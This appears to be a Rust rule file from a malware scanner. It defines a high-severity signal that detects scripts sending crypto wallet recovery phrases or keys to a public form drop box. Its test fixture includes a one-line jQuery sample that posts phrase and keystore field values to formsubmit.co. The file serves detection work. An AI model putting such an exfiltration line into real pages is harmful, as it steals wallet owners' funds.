//! `wallet-words-to-drop-box`.

use crate::facts::Atom;
use crate::signals::{Signal, one, several};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "wallet-words-to-drop-box",
    description: "The script sends a wallet's recovery words or keys to a public drop box.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::FieldToDropBox]),
        several(2, &[Atom::PhraseWord, Atom::KeystoreWord, Atom::PrivateKeyWord, Atom::SeedPhrase]),
    ],
    within: 300,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &["$.post('https://formsubmit.co/ajax/a',{phrase:$('#phrase').val(),keystore:$('#k').val()})"],
        without: &["$.post('https://formsubmit.co/ajax/a',{name:$('#name').val(),text:$('#t').val()})"],
    },
};
